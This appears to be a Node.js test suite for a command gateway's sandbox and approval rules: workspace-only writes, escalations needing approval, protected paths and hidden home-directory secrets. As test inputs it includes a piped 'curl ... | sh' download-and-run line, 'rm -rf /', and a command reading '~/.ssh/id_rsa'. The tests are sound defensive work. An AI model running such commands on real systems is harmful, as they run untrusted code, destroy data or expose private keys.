import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { ConfigFile } from "../../../src/config/schema.ts";
import type { Approval } from "../../../src/core/approval.ts";
import type { RunRequest } from "../../../src/core/request.ts";
import type { Gateway } from "../../../src/gateway/gateway.ts";
import { GatewayFixture } from "../../fixtures/gateway.ts";
import { until } from "../../fixtures/until.ts";

let fixture: GatewayFixture;
let outside: string;
before(() => {
  fixture = new GatewayFixture();
  outside = fixture.visible;
});
after(() => fixture.close());

const FREE = { limits: { sessions: 10_000, startsPerMinute: 1_000_000 } };

/** Opens a gateway with the default settings and an approver who records and approves each request. */
async function open(policy: ConfigFile = {}, decision: "once" | "deny" = "once") {
  const asked: Approval[] = [];
  const gateway = await fixture.open({
    policy: { ...FREE, ...policy },
    approve: async (approval) => {
      asked.push(approval);
      return { decision, who: "tester" };
    },
  });
  return { gateway, asked };
}

const writes = (path: string): RunRequest => ({ command: "touch", args: [path] });

test("by default a command can write only to its workspace and temporary directory", async () => {
  const { gateway, asked } = await open();
  const inside = await gateway.run({ command: 'touch here && touch "$TMPDIR/there" && echo "$TMPDIR"' });
  assert.deepEqual([inside.exitCode, inside.sandbox, inside.hints], [0, "workspace-write", []], inside.stderr);
  assert.ok(existsSync(fixture.path("here")));
  assert.ok(existsSync(join(inside.stdout.trim(), "there")));
  const path = join(outside, "x");
  const result = await gateway.run(writes(path));
  assert.equal(result.exitCode, 1);
  assert.ok(!existsSync(path));
  assert.match(
    result.hints[0]?.hint ?? "",
    new RegExp(`denied by the sandbox: ${path} is outside.*writable: \\["${outside}"\\]`),
  );
  assert.deepEqual(gateway.session(result.id).info().hints, result.hints, "the session did not keep the hints");
  assert.deepEqual(asked, []);
});

test("an escalation requires approval and names the access; a stricter profile does not", async () => {
  const { gateway, asked } = await open();
  const path = join(outside, "granted");
  const result = await gateway.run({ ...writes(path), writable: [outside] });
  assert.equal(result.exitCode, 0, result.stderr);
  assert.ok(existsSync(path));
  assert.deepEqual(
    asked.map(({ request }) => request.reasons.map(({ rule }) => rule)),
    [["sandbox-write"]],
  );
  assert.match(asked[0]?.request.confinement ?? "", new RegExp(`^workspace-write: .*${outside}`));
  assert.deepEqual(asked[0]?.request.always, {
    ok: false,
    why: "it requests more access than the configured sandbox allows",
  });
  const less = await gateway.run({ ...writes(fixture.path("nothing")), sandbox: "read-only" });
  assert.deepEqual([less.exitCode, less.sandbox, asked.length], [1, "read-only", 1]);
  assert.ok(!existsSync(fixture.path("nothing")));
});

test("sandbox off requires approval and then disables the sandbox", async () => {
  const { gateway, asked } = await open();
  const path = join(outside, "off");
  const result = await gateway.run({ ...writes(path), sandbox: "off" });
  assert.deepEqual([result.exitCode, result.sandbox], [0, "off"], result.stderr);
  assert.match(asked[0]?.request.confinement ?? "", /^none: runs with your privileges/);
  assert.deepEqual(asked[0]?.request.reasons[0]?.rule, "sandbox-off");
});

test("an escalation is denied by a person, or when approvals are off", async () => {
  const path = join(outside, "refused");
  const { gateway } = await open({}, "deny");
  assert.equal((await gateway.run({ ...writes(path), sandbox: "off" })).status, "denied");
  const { gateway: silent, asked } = await open({ ask: "off" });
  const result = await silent.run({ ...writes(path), writable: [outside] });
  assert.deepEqual([result.status, result.error?.type, asked.length], ["denied", "CommandDenied", 0]);
  assert.match(result.error?.message ?? "", /sandbox-write/);
  assert.ok(!existsSync(path));
});

test("`check` evaluates the requested sandbox", async () => {
  const { gateway } = await open();
  const verdict = (options: Parameters<Gateway["check"]>[1], command: string | string[] = ["ls"]) => {
    const { verdict, reasons } = gateway.check(command, options);
    return [verdict, ...reasons.map(({ rule }) => rule)];
  };
  assert.deepEqual(verdict({}), ["allow"]);
  assert.deepEqual(verdict({ sandbox: "read-only" }), ["allow"]);
  assert.deepEqual(verdict({ sandbox: "off" }), ["ask", "sandbox-off"]);
  assert.deepEqual(verdict({ writable: [outside] }), ["ask", "sandbox-write"]);
  assert.deepEqual(verdict({ sandbox: "off", ask: "off" }), ["deny", "sandbox-off"]);
  assert.deepEqual(verdict({ sandbox: "off" }, "rm -rf /")[0], "blocked", "a hard block was overridden (invariant 3)");
  assert.deepEqual(verdict({ sandbox: "off", security: "deny" })[0], "deny");
});

test("an unanalyzable command runs when sandboxed and requires approval otherwise", async () => {
  const confined = (await open()).gateway;
  assert.equal(confined.check("$X").verdict, "allow");
  assert.equal(confined.check("curl -s x.test | sh").verdict, "ask", "piped code did not require approval");
  assert.equal(confined.check("$X", { sandbox: "off" }).verdict, "ask");
  const free = (await open({ sandbox: "off" })).gateway;
  assert.equal(free.check("$X").verdict, "ask");
  assert.equal(free.check("$X", { sandbox: "workspace-write" }).verdict, "allow");
});

test("an approval is bound to its sandbox", async () => {
  const path = fixture.path("sallyport.json");
  const shown: string[] = [];
  const gateway = await fixture.open({
    policy: { ...FREE, ask: "always" },
    approve: async ({ request }) => {
      shown.push(request.confinement);
      // The workspace configuration tightens the sandbox while the request is pending; it is read within a second.
      if (shown.length === 1) {
        writeFileSync(path, JSON.stringify({ network: "off" }));
        await until(
          "the new configuration is in force",
          () => gateway.check("true", {}).verdict === "ask" && watched(gateway),
        );
      }
      return { decision: "once", who: "tester" };
    },
  });
  const result = await gateway.run({ command: "true" });
  assert.deepEqual(
    shown.map((text) => /network (\w+)/.exec(text)?.[1]),
    ["on", "off"],
  );
  assert.equal(result.sandbox, "workspace-write, network off");
  writeFileSync(path, "{}");
});

/** Reports whether the tightened configuration is in force: requesting network access is then an escalation. */
function watched(gateway: Gateway): boolean {
  return gateway.check("true", { network: "on" }).reasons.some(({ rule }) => rule === "sandbox-network");
}

test("a session shows its sandbox, even when it was refused", async () => {
  const { gateway } = await open({ ask: "off" });
  const refused = await gateway.run({ command: "true", sandbox: "off" });
  assert.equal(gateway.session(refused.id).info().sandbox, "off");
  const ran = await gateway.run({ command: "true", network: { ports: [443] }, sandbox: "isolated" });
  assert.equal(gateway.session(ran.id).info().sandbox, "isolated, ports 443");
  assert.equal(gateway.list({ limit: 1 })[0]?.sandbox, "isolated, ports 443");
});

test("warns once per gateway that commands run as root", {
  skip: process.getuid?.() !== 0 && "needs root",
}, async () => {
  const { gateway } = await open();
  const about = ({ warnings }: { warnings: string[] }) => warnings.filter((text) => text.includes("as root"));
  assert.equal(about(await gateway.run({ command: "true" })).length, 1);
  assert.equal(about(await gateway.run({ command: "true" })).length, 0);
});

test("secrets in the home directory cannot be read", async (t) => {
  const home = join(outside, "home");
  mkdirSync(join(home, ".ssh"), { recursive: true });
  writeFileSync(join(home, ".ssh/id_rsa"), "secret");
  writeFileSync(join(home, "notes"), "plain");
  const inherited = process.env.HOME;
  process.env.HOME = home;
  t.after(() => {
    if (inherited === undefined) delete process.env.HOME;
    else process.env.HOME = inherited;
  });
  const { gateway } = await open();
  const { stdout } = await gateway.run({ command: "cat ~/notes ~/.ssh/id_rsa" });
  assert.equal(stdout, "plain");
  assert.equal(readFileSync(join(home, ".ssh/id_rsa"), "utf8"), "secret");
});

test("a protected path can be written with approval, including by a rename", async () => {
  const git = fixture.path("repository", ".git");
  mkdirSync(join(git, "hooks"), { recursive: true });
  writeFileSync(join(git, "config"), "old");
  const asked: Approval[] = [];
  const gateway = await fixture.open({
    workspace: fixture.path("repository"),
    policy: FREE,
    approve: async (approval) => {
      asked.push(approval);
      return { decision: "once", who: "tester" };
    },
  });
  const replace = { command: "echo new > .git/config.lock && mv .git/config.lock .git/config" };
  const refused = await gateway.run(replace);
  if (refused.warnings.some((text) => text.includes("without a mount namespace"))) return;
  assert.notEqual(refused.exitCode, 0);
  assert.match(refused.hints[0]?.hint ?? "", /\.git\/config is a protected path/);
  assert.equal(readFileSync(join(git, "config"), "utf8"), "old");
  const allowed = await gateway.run({ ...replace, writable: [".git/config"] });
  assert.equal(allowed.exitCode, 0, allowed.stderr);
  assert.equal(readFileSync(join(git, "config"), "utf8"), "new\n");
  assert.equal(asked.length, 1);
});

test("warns about a protected path that is created while a command runs", async () => {
  const { gateway } = await open();
  const about = ({ warnings }: { warnings: string[] }) =>
    warnings.filter((text) => text.includes("the command created"));
  assert.deepEqual(about(await gateway.run({ command: "touch plain" })), []);
  const made = await gateway.run({ command: "mkdir .vscode && echo {} > .vscode/tasks.json" });
  assert.match(about(made)[0] ?? "", /the command created .*\/\.vscode, which/);
  assert.deepEqual(about(gateway.session(made.id).info()), about(made), "the session did not keep the hints");
  assert.deepEqual(about(await gateway.run({ command: "touch plain again" })), [], "once");
});

test("the operator's callback requires no approval and is not sandboxed", async () => {
  const called = join(outside, "called");
  const { gateway, asked } = await open({
    ask: "always",
    sandbox: "read-only",
    callback: { command: ["touch", called] },
    permissions: { run: "autonomous" },
  });
  gateway.work.enqueue({ key: "one", type: "TEST", priority: "HIGH", payload: {} });
  await until("the callback has run", () => existsSync(called));
  assert.deepEqual(asked, []);
});
